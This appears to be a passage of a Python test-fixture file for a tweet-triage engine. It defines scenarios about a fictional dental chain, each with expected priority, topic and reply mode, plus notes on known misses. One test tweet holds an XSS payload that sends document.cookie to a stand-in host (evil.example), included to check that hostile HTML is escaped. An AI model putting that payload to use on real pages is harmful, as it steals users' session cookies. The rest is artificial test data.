          lang="pt", when="2027-09-29T13:40:10Z"),
       expect(RP, "low", "hygiene", "indirect"), note="Portuguese praise")
    SC("cusp-pl-trzecia-odwolana-wizyta", "non-english",
       tw("agnieszka_lis", f"@{B} trzeci raz odwołana wizyta w Holtby Road. Trzeci! Ząb boli mnie od miesiąca, a wy znowu przesuwacie termin na listopad.",
          lang="pl", when="2027-09-29T14:05:31Z"),
       expect(RP, "high", "appointments", "direct"), note="Polish: the third cancelled appointment, a repeated complaint",
       known_miss="round 8, not met yet: priority: want 'high', got normal; the engine read: addressed to @CuspDental | topic appointments: 'odwołana', 'wizyta', 'termin'")

    SC("cusp-legal-implant-deposit-small-claims", "legal-threat-not-urgent",
       tw("graham_tull", "Cusp Dental took a £1,200 deposit for my implants in June, then closed the Ridley Cross surgery for 'refurbishment' and won't refund it. Small claims court it is, and I've written to Trading Standards.",
          when="2027-09-29T14:40:06Z"),
       expect(RP, "high", "fees", "indirect"), note="court and Trading Standards: a strong complaint, not urgent")

    SC("cusp-hotline-website-rings-out", "public-hotline-number",
       tw("zainab_qureshi", "Cusp Dental's own website says ring 0808 157 0318 for urgent help. it just rings out. tooth has snapped in half and I can't eat anything on that side",
          when="2027-09-29T15:10:50Z"),
       expect(RP, "normal", "urgent_care", "indirect"), strict=False,
       note="the brand's own number; a broken tooth hurts but is not a risk to life; some leads would make it high")

    SC("cusp-big-reach-journalist-nhs-dad", "big-reach",
       tw("RDunmoreNews", "Day 3 of trying to find an NHS dentist for my dad in Wenmoor. Cusp Dental have six practices here and not one will register him. This is what 'NHS dentistry' means in 2027.",
          when="2027-09-29T15:45:27Z",
          metrics={"retweet_count": 2_100, "reply_count": 1_040, "like_count": 15_600, "quote_count": 340}),
       expect(RP, "high", "nhs_access", "indirect"), note="452k followers, named not tagged")

    SC("cusp-news-past-kitchen-fire", "news-monitor",
       tw("WenmoorGazette", "Cusp Dental's Holtby Road practice was evacuated on Tuesday after a small fire in a staff kitchen. Nobody was hurt and it reopened this morning, the company said. {url:https://wenmoor-gazette.example/2027/09/holtby-road-fire}",
          when="2027-09-29T16:10:00Z"),
       expect(MON, "low", "incidents", "indirect"), note="news of a past incident, nobody hurt: not urgent")

    SC("cusp-chatter-rebrand-mill-lane", "chatter-monitor",
       tw("millie_jarvis", "anyone else notice the old dentist on Mill Lane is a Cusp Dental now? same faces on the desk, new purple sign and a fish tank the size of a car",
          when="2027-09-29T16:34:42Z"),
       expect(MON, "low", None, "indirect"))
    SC("cusp-chatter-nurse-settled-incident", "chatter-monitor",
       tw("dentalnurse_jo", "Cusp Dental nurse here. a patient kicked off at our reception today and threw a chair, police came and took him away. we're all fine, just shaken. please be kind to dental staff, we're doing our best",
          when="2027-09-29T17:05:19Z"),
       expect(MON, "low", "conduct", "indirect"), strict=False,
       note="a staff member describing an incident that is over, everyone safe; the business will want to know internally, and some leads would make it high")

    SC("cusp-spam-whitening-giveaway", "spam",
       tw("SmileGlowDeals", "🎁 GIVEAWAY 🎁 Cusp Dental x SmileGlow: win a FREE teeth whitening kit worth £300! ✨ Follow us, RT and claim here 👉 {url:https://smileglow-win.example/cusp}",
          when="2027-09-29T17:30:00Z"),
       expect(IGN, "low", "hygiene", "indirect"), note="a fake giveaway using the brand's name")

    SC("cusp-html-pentest-retainer", "html-entities",
       tw("pentest_parveen", f"@{B} &lt;img src=x onerror=\"fetch('https://evil.example/?c='+document.cookie)\"&gt; just checking your care desk escapes things 🙂 anyway: my retainer still hasn't arrived, 5 weeks now",
          when="2027-09-29T18:02:40Z"),
       expect(RP, "normal", "orthodontics", "direct"), note="hostile HTML, but a real question about a late retainer")

    # ---- Thursday, 30 September ---------------------------------------------------------
    SC("cusp-common-word-on-the-cusp-dental-news", "common-word",
       tw("UKHealthWire", "With NHS contract talks on the cusp dental practices across England are warning that more closures could follow this winter. {url:https://ukhealthwire.example/2027/09/nhs-dental-contract}",
          when="2027-09-30T06:20:00Z"),
       expect(IGN, "low", "nhs_access", "none"), strict=False,
       note="'on the cusp' runs into 'dental practices' without a comma; sector news, not about the brand; some leads would monitor it")
    SC("cusp-common-word-chipped-cusp", "common-word",
       tw("werthers_wes", "chipped the cusp off a back tooth on a Werther's Original. my tongue will not leave it alone. dentist on Thursday, sweets banned till then",
          when="2027-09-30T07:05:33Z"),
       expect(IGN, "low", "treatment", "none"), strict=False,
       note="a cusp of a tooth; the dentist might even be Cusp's, but nothing addresses the brand; monitor would also be fine")
    SC("cusp-namesake-band-cancelled-leeds", "namesake",
       tw("leeds_gig_lad", "gutted, Cusp have cancelled the Leeds show. third band this year to pull out on me. at least the bar at the Brudenell is still open",
          when="2027-09-30T07:40:12Z"),
       expect(IGN, "low", "appointments", "none"), note="the band; 'cancelled' is an appointments keyword, so the topic follows it")

    SC("cusp-praise-dry-socket-last-year", "praise",
       tw("ciaran_mulvey", "last year I had a dry socket after a Cusp Dental extraction and honestly thought I was dying. today the same practice took my other wisdom tooth out and it's been a dream. fair play Holtby Road 👏",
          when="2027-09-30T08:15:47Z"),
       expect(RP, "low", "treatment", "indirect"), note="'thought I was dying' is about a settled past event; today is praise")
    SC("cusp-question-nervous-pass-out", "question",
       tw("shy_siobhan", f"@{B} root canal tomorrow at 9 and I'm going to pass out before I even sit down 😭 any tips for nervous patients? can I bring headphones?",
          when="2027-09-30T08:48:20Z"),
       expect(RP, "normal", "treatment", "direct"), note="dental nerves, not a medical emergency: 'pass out' is a figure of speech",
       known_miss="round 8, not met yet: priority: want 'normal', got high; the engine read: addressed to @CuspDental | complaint (0.32) | loss of service | topic treatment: 'root canal'")

    SC("cusp-dad-blood-thinners-phone", "medical-urgent",
       tw("nadia_haroun", f"@{B} my dad had a tooth out at Wenmoor yesterday, he's 79 and on blood thinners. his face has swollen right up to his eye overnight and he's got a temperature and seems confused. please can someone ring me, 07700 900582",
          when="2027-09-30T09:20:11Z"),
       expect(ANY, "urgent", "urgent_care", "direct"),
       note="spreading swelling, fever and confusion in an elderly patient: urgent; a phone number in public, so either a public reply (go to A&E now) or a private one fits",
       known_miss="round 8, not met yet: topic: want 'urgent_care', got treatment; the engine read: addressed to @CuspDental | exposes a phone number in public: answer privately | a medical need: urgent | topic treatment: 'tooth out'")

    SC("cusp-in-passing-tuesday-scorecard", "complaint-in-passing",
       tw("tamsin_grey_w", f"this week so far: train 20 mins late twice, laptop died mid-pitch, soup down my only clean shirt, and my new aligners from @{B} don't fit and have rubbed my cheek raw. home, wine, bed",
          when="2027-09-30T17:50:39Z"),
       expect(RP, "normal", "orthodontics", "indirect"), note="the brand tagged in the middle of a list")
    SC("cusp-indirect-quote-240-bill-410", "complaint-indirect",
       tw("aled_morgan_w", "Cusp Dental quoted me £240 for a filling. bill at the desk today was £410. nobody mentioned the extra at any point. feel completely mugged off",
          when="2027-09-30T18:22:05Z"),
       expect(RP, "normal", "fees", "indirect"))
    return brand


BRANDS["cusp-dental"] = ("CuspDental", 4234567823, build_cusp_dental)
